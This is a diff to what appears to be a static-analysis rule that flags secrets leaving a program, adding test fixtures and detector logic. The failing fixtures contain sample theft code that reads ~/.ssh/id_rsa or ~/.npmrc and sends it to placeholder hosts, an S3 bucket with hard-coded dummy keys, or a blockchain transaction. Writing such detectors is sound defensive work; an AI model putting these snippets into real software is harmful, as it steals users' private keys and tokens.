@@ -1,3 +1,4 @@
+import { entrusted } from '../src/define/entrusted.js';
 import {
   bodyLabels,
   defineRule,
@@ -78,8 +79,24 @@ export default defineRule({
         title: 'SSH keys leave from a callback',
         code: `const fs = require('fs');\nfs.readFile(process.env.HOME + '/.ssh/id_rsa', (error, key) => {\n  require('https').request('https://collect.invalid', { method: 'POST' }).end(key);\n});`,
       },
+      {
+        title: 'keys are put into somebody’s store',
+        code: `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'), fs = require('fs'), os = require('os');\nconst store = new S3Client({ region: 'eu-west-1', credentials: { accessKeyId: 'AKIA0000000000000000', secretAccessKey: 'x' } });\nstore.send(new PutObjectCommand({ Bucket: 'b', Key: os.hostname(), Body: fs.readFileSync(os.homedir() + '/.ssh/id_rsa') }));`,
+      },
+      {
+        title: 'a token file is written into a chain, for anybody to read',
+        code: `const { ethers } = require('ethers'), fs = require('fs'), os = require('os');\nconst wallet = new ethers.Wallet('0x' + '1'.repeat(64), new ethers.JsonRpcProvider('https://rpc.invalid'));\nwallet.sendTransaction({ to: '0x' + '2'.repeat(40), data: '0x' + fs.readFileSync(os.homedir() + '/.npmrc').toString('hex') });`,
+      },
     ],
     passes: [
+      {
+        title: 'a store is opened with the keys that its user has',
+        code: `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');\nconst store = new S3Client({ endpoint: 'https://store.invalid', credentials: { accessKeyId: process.env.AWS_ACCESS_KEY_ID, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } });\nexports.put = body => store.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: body }));`,
+      },
+      {
+        title: 'a database is opened with a password of the environment, and asked',
+        code: `const { Client } = require('pg');\nconst client = new Client({ host: 'db.invalid', user: process.env.DB_USER, password: process.env.DB_PASSWORD });\nexports.find = id => client.query('select * from t where id = $1', [id]);`,
+      },
       {
         title: 'a login is passed on to a server that is configured',
         code: `module.exports = (req, res, next) => {\n  fetch(process.env.LOGIN_SERVER, { method: 'POST', body: JSON.stringify({ password: req.body.password }) }).then(() => next());\n};`,
@@ -99,6 +116,23 @@ export default defineRule({
     ],
   },
   file(context) {
+    for (const { call, labels } of entrusted(context)) {
+      const several = severalOf(labels);
+      const told = MESSAGES.find(([kind]) => labels.some(one => one.kind === kind));
+      const label = told && labels.find(({ kind }) => kind === told[0]);
+      // A client is set up with a secret of its user's: one alone says nothing.
+      if (!told || !label || (told[1] === 'variable' && several.length < 2)) continue;
+      const shipped = { credentials: 'shipped', variable: 'several' }[told[1]];
+      context.report({
+        messageId: shipped ?? told[1],
+        data: {
+          what: several.length >= 2 ? several.join(', ') : label.detail,
+          sink: call.name,
+          count: several.length,
+        },
+        chain: [...stepsOf(label), step('sink', sinkSays(call), context.file, call.node)],
+      });
+    }
     for (const { call, labels, authority } of outgoing(context)) {
       for (const [kind, messageId] of MESSAGES) {
         const label = labels.find(one => one.kind === kind);
